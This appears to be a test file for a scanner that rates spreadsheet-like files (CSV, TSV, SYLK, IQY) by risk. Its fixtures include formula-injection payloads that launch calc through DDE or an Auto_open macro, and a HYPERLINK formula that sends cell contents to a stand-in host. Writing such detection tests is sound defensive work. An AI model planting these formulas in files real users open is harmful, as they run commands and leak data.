import { describe, expect, it } from 'vitest';
import { carriersIn, text, worstOf } from '../../../test/files/scan-carriers.ts';

describe('a table that is a text', () => {
  it.each([
    ['asks a program', 'a.csv', 'a,b\n1,"=cmd|\'/c calc\'!A1"\n'],
    ['asks one behind a function', 'a.csv', 'a,b\n1,"@SUM(1)*cmd|\'/c calc\'!A1"\n'],
    ['asks one, cut by tabs', 'a.tsv', "a\tb\n1\t+cmd|'/c calc'!A1\n"],
    ['asks one as a link', 'a.slk', "ID;PWXL;N;E\nC;X1;Y1;K0;Ecmd|'/c calc'!A1\nE\n"],
    [
      'has a macro that starts one',
      'a.slk',
      'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;K0;EEXEC("calc.exe")\nE\n',
    ],
  ])('that %s is High', async (_what, name, content) => {
    expect(await carriersIn(text(content), name)).toEqual(['table-runs-command (4)']);
  });

  it.each([
    ['sends its cells', 'a.csv', 'a,b\n1,"=HYPERLINK(""https://x.example/?a=""&A1,""Open"")"\n'],
    ['takes a value from a server', 'a.csv', 'a,b\n1,"=WEBSERVICE(""https://x.example/a"")"\n'],
    ['loads a page', 'a.iqy', 'WEB\r\n1\r\nhttps://x.example/a.dat\r\n'],
  ])('that %s is Medium', async (_what, name, content) => {
    expect(await carriersIn(text(content), name)).toEqual(['table-contacts-server (3)']);
  });

  it.each([
    ['sums', 'a.csv', 'a,b\n1,=SUM(A1:A2)\n2,=B1*1.2\n'],
    ['has telephone numbers and changes', 'a.csv', 'a,b\n+39 055 000000,-3\n@someone,+12%\n'],
    ['links to a page', 'a.csv', 'a\n"=HYPERLINK(""https://x.example/a"",""Open"")"\n'],
    ['has bars in its cells', 'a.csv', 'a,b\n"=a|b","-x|y!"\n'],
    ['is a symbolic link', 'a.slk', 'ID;PWXL;N;E\nC;X1;Y1;K"a"\nC;X2;Y1;K3;ESUM(R1C1:R1C2)\nE\n'],
    [
      'is a list of SharePoint',
      'a.iqy',
      'WEB\r\n1\r\nhttps://x.example/_vti_bin/owssvr.dll?a=1\r\n',
    ],
  ])('that %s is below Medium', async (_what, name, content) => {
    expect(await worstOf(text(content), name)).toBeLessThan(3);
  });
});
